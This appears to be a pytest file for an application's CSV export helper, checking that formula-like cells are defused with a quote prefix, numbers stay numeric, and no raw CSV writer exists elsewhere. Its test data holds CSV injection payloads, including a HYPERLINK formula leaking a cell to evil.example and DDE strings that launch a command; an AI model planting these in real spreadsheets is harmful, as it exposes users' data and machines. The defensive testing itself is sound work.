"""The one CSV writer (core.csv_export): cells a spreadsheet would run as a formula are defused
(OWASP's guidance on CSV injection), numbers the application produced stay numbers, and no other
CSV writer exists in the application's code."""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from core.csv_export import csv_safe_cell, csv_writer

ROOT = Path(__file__).resolve().parents[2]
# The application's own code: every package with an apps.py, and config.
APP_DIRS = sorted({path.parent for path in ROOT.glob("*/apps.py")} | {ROOT / "config"})
RAW_WRITER = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\s*\(|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        " \u00a0@SUM(A1)",
    ],
)
def test_text_that_would_start_a_formula_is_prefixed_with_a_single_quote(text: str) -> None:
    assert csv_safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["More patrols.", "Speeding; Litter", "2026-05-01", "a=b", "e-mail", ""])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert csv_safe_cell(text) == text


@pytest.mark.parametrize("number", [-5, 0, 12, -1.234567, Decimal("-12.50"), Decimal("3")])
def test_numbers_the_application_produced_stay_numbers(number: Any) -> None:
    assert csv_safe_cell(number) is number


def test_none_is_an_empty_cell_and_dates_are_written_as_text() -> None:
    assert csv_safe_cell(None) == ""
    assert csv_safe_cell(datetime.date(2026, 5, 1)) == "2026-05-01"


def test_the_writer_defuses_every_cell_header_included_and_keeps_numbers_numeric() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=question", "ok"])
    writer.writerows([["@answer", Decimal("-2.5")], [-3, None]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=question", "ok"],
        ["'@answer", "-2.5"],
        ["-3", ""],
    ]


def test_no_csv_is_written_in_the_application_except_through_the_one_writer() -> None:
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for directory in APP_DIRS
        for path in directory.rglob("*.py")
        if path != ROOT / "core" / "csv_export.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if RAW_WRITER.search(line)
    ]
    assert ROOT / "evaluation" in APP_DIRS
    assert offenders == [], "Write CSV through core.csv_export.csv_writer, which defuses formula cells"
